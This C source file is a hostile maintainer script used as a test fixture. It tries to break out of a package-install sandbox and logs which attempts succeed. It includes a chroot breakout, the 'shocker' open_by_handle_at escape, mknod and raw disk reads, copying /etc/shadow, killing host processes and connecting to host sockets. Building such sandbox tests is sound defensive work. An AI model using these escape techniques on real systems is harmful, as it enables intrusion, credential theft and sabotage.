/*
 * A hostile maintainer script (built static by test/support/hostile-deb.ts, run by the
 * postinst of a test package): tries every way out of the sandbox it is run in and writes one
 * line per attempt to RESULTS: "NAME blocked ERRNO-TEXT" or "NAME ESCAPED WHAT". Each attempt
 * runs in a child process of its own, after trying to break out of a chroot (as dpkg's
 * chroot for maintainer scripts was the only wall around them once). TARGETS names what to aim at on the host, KEY=VALUE
 * per line: host_dir, host_secret, tcp_port, abstract_name, daemon_socket, victim_pid,
 * block_device, block_major, block_minor.
 * open-by-handle: the "shocker" route — open_by_handle_at (CAP_DAC_READ_SEARCH) with the handle
 * of an ext4 root directory (inode 2, generation 0) through each mount of the sandbox: one of
 * the host's filesystem (the tree itself, or a file bound in) opens the host's root, and a
 * file is written into host_dir from there.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <signal.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static int results = -1;
static int broke_out;
static char targets[16][2][512];
static int ntargets;

static const char *target(const char *key) {
  for (int i = 0; i < ntargets; i++)
    if (strcmp(targets[i][0], key) == 0) return targets[i][1];
  return "";
}

static void report(const char *fmt, ...) {
  char line[1024];
  va_list ap;
  va_start(ap, fmt);
  int n = vsnprintf(line, sizeof line - 1, fmt, ap);
  va_end(ap);
  if (n < 0) return;
  if (n > (int)sizeof line - 2) n = sizeof line - 2;
  line[n++] = '\n';
  if (write(results, line, n) < 0) _exit(3);
}

static void blocked(const char *name) { report("%s blocked %s", name, strerror(errno)); }

/* Out of a chroot by the classic route: chroot into a subdirectory, climb, chroot there. */
static int break_out(void) {
  mkdir("/tmp/aoatk-jail", 0700);
  if (chroot("/tmp/aoatk-jail") != 0) return -1;
  for (int i = 0; i < 64; i++) chdir("..");
  return chroot(".");
}

static void chroot_breakout(void) {
  if (!broke_out) return blocked("chroot-breakout");
  char buf[256] = "";
  int fd = open(target("host_secret"), O_RDONLY);
  if (fd < 0) return report("chroot-breakout blocked (out, but the host file is not there: %s)", strerror(errno));
  ssize_t n = read(fd, buf, sizeof buf - 1);
  report("chroot-breakout ESCAPED read %zd bytes of the host's %s", n, target("host_secret"));
}

static void remount_and_write(void) {
  if (mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL) != 0) blocked("remount");
  else report("remount ESCAPED / is read-write");
  char path[600];
  snprintf(path, sizeof path, "%s/written-by-postinst", target("host_dir"));
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) return blocked("write-host-path");
  write(fd, "pwned\n", 6);
  report("write-host-path ESCAPED wrote %s", path);
}

static void read_block(const char *name, const char *path) {
  int fd = open(path, O_RDONLY);
  if (fd < 0) return blocked(name);
  char buf[512];
  ssize_t n = read(fd, buf, sizeof buf);
  if (n < 0) return blocked(name);
  report("%s ESCAPED read %zd bytes of %s", name, n, path);
}

static void make_node(void) {
  dev_t dev = makedev(atoi(target("block_major")), atoi(target("block_minor")));
  char path[64];
  snprintf(path, sizeof path, "/tmp/aoatk-disk-%d", (int)getpid());
  if (mknod(path, S_IFBLK | 0600, dev) != 0) return blocked("mknod");
  int fd = open(path, O_RDONLY);
  char buf[512];
  ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf);
  report("mknod ESCAPED made a node for the host's disk (%s:%s), read %zd bytes", target("block_major"), target("block_minor"), n);
  unlink(path);
}

static void tcp_connect(void) {
  int s = socket(AF_INET, SOCK_STREAM, 0);
  struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(atoi(target("tcp_port"))), .sin_addr.s_addr = htonl(INADDR_LOOPBACK)};
  if (s < 0 || connect(s, (struct sockaddr *)&a, sizeof a) != 0) return blocked("tcp-loopback");
  write(s, "hello from a postinst\n", 22);
  report("tcp-loopback ESCAPED connected to 127.0.0.1:%s", target("tcp_port"));
}

static void unix_connect(const char *name, const char *path, int abstract, const char *send) {
  int s = socket(AF_UNIX, SOCK_STREAM, 0);
  struct sockaddr_un a = {.sun_family = AF_UNIX};
  size_t len = strlen(path);
  if (len + 2 > sizeof a.sun_path) len = sizeof a.sun_path - 2;
  memcpy(a.sun_path + abstract, path, len);
  socklen_t alen = offsetof(struct sockaddr_un, sun_path) + abstract + len;
  if (s < 0 || connect(s, (struct sockaddr *)&a, alen) != 0) return blocked(name);
  char reply[200] = "";
  if (send != NULL) {
    write(s, send, strlen(send));
    ssize_t n = read(s, reply, sizeof reply - 1);
    if (n > 0) reply[n] = 0;
    for (char *c = reply; *c; c++) if (*c == '\n') *c = ' ';
  }
  report("%s ESCAPED connected to %s%s; reply: %s", name, abstract ? "@" : "", path, reply);
}

static void read_shadow(void) {
  /* Whatever it finds, as a copy in the tree: the test compares it with the host's. */
  char buf[65536];
  int fd = open("/etc/shadow", O_RDONLY);
  if (fd < 0) return blocked("read-shadow");
  ssize_t n = read(fd, buf, sizeof buf);
  if (n < 0) return blocked("read-shadow");
  int out = open("/usr/share/aoatk/shadow-seen", O_WRONLY | O_CREAT | O_TRUNC, 0600);
  if (out >= 0) write(out, buf, n);
  report("read-shadow read %zd bytes of /etc/shadow (compared by the test)", n);
}

static void signal_host(void) {
  if (kill(atoi(target("victim_pid")), SIGKILL) != 0) return blocked("signal-host-process");
  report("signal-host-process ESCAPED killed %s", target("victim_pid"));
}

static void write_sysctl(void) {
  char v[64] = "";
  int fd = open("/proc/sys/fs/lease-break-time", O_RDWR);
  if (fd < 0) return blocked("write-sysctl");
  ssize_t n = read(fd, v, sizeof v - 1);
  if (n <= 0 || lseek(fd, 0, SEEK_SET) != 0 || write(fd, v, n) != n) return blocked("write-sysctl");
  report("write-sysctl ESCAPED wrote fs.lease-break-time");
}

static void open_by_handle(void) {
  FILE *mi = fopen("/proc/self/mountinfo", "r");
  if (mi == NULL) return blocked("open-by-handle");
  char line[4096], point[4096];
  int saved = ENOENT;
  while (fgets(line, sizeof line, mi) != NULL) {
    if (sscanf(line, "%*s %*s %*s %*s %4095s", point) != 1) continue;
    int mfd = open(point, O_RDONLY | O_NONBLOCK | O_NOCTTY);
    if (mfd < 0) continue;
    struct { struct file_handle fh; unsigned char bytes[8]; } h = {.fh = {.handle_bytes = 8, .handle_type = 1}};
    unsigned int ino_gen[2] = {2, 0};
    memcpy(h.fh.f_handle, ino_gen, sizeof ino_gen);
    int root = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY);
    if (root < 0) {
      saved = errno;
      close(mfd);
      continue;
    }
    char path[600];
    snprintf(path, sizeof path, "%s/written-by-handle", target("host_dir") + 1);
    int fd = openat(root, path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) write(fd, "pwned\n", 6);
    fclose(mi);
    return report("open-by-handle ESCAPED opened the root of the filesystem of %s%s", point, fd >= 0 ? " and wrote into host_dir" : "");
  }
  fclose(mi);
  errno = saved;
  blocked("open-by-handle");
}

static void capabilities(void) {
  char buf[4096];
  int fd = open("/proc/self/status", O_RDONLY);
  ssize_t n = fd < 0 ? -1 : read(fd, buf, sizeof buf - 1);
  if (n <= 0) return blocked("capabilities");
  buf[n] = 0;
  char *eff = strstr(buf, "CapEff:");
  if (eff == NULL) return blocked("capabilities");
  unsigned long long caps = strtoull(eff + 7, NULL, 16);
  report("capabilities effective %llx", caps);
}

static void attempt(void (*fn)(void)) {
  pid_t pid = fork();
  if (pid == 0) {
    int saved = 0;
    broke_out = break_out() == 0;
    if (!broke_out) saved = errno;
    errno = saved;
    fn();
    _exit(0);
  }
  if (pid > 0) waitpid(pid, NULL, 0);
}

static void host_block_device(void) { read_block("open-host-block-device", target("block_device")); }
static void daemon_socket(void) { unix_connect("daemon-socket", target("daemon_socket"), 0, "{\"jsonrpc\":\"2.0\",\"id\":1,\"method\":\"Sysroot.GetProperties\"}\n"); }
static void abstract_socket(void) { unix_connect("abstract-socket", target("abstract_name"), 1, NULL); }
static void system_bus(void) { unix_connect("system-bus", "/run/dbus/system_bus_socket", 0, NULL); }

int main(int argc, char **argv) {
  if (argc != 3) return 2;
  FILE *t = fopen(argv[1], "r");
  if (t == NULL) return 2;
  char line[1100];
  while (ntargets < 16 && fgets(line, sizeof line, t) != NULL) {
    char *eq = strchr(line, '=');
    if (eq == NULL) continue;
    *eq = 0;
    eq[1 + strcspn(eq + 1, "\n")] = 0;
    snprintf(targets[ntargets][0], 512, "%.500s", line);
    snprintf(targets[ntargets][1], 512, "%.500s", eq + 1);
    ntargets++;
  }
  fclose(t);
  results = open(argv[2], O_WRONLY | O_CREAT | O_APPEND, 0644);
  if (results < 0) return 2;
  void (*attempts[])(void) = {capabilities, chroot_breakout, remount_and_write, make_node, host_block_device, tcp_connect,
                              daemon_socket, abstract_socket, system_bus, read_shadow, signal_host, write_sysctl, open_by_handle};
  for (size_t i = 0; i < sizeof attempts / sizeof attempts[0]; i++) attempt(attempts[i]);
  return 0;
}
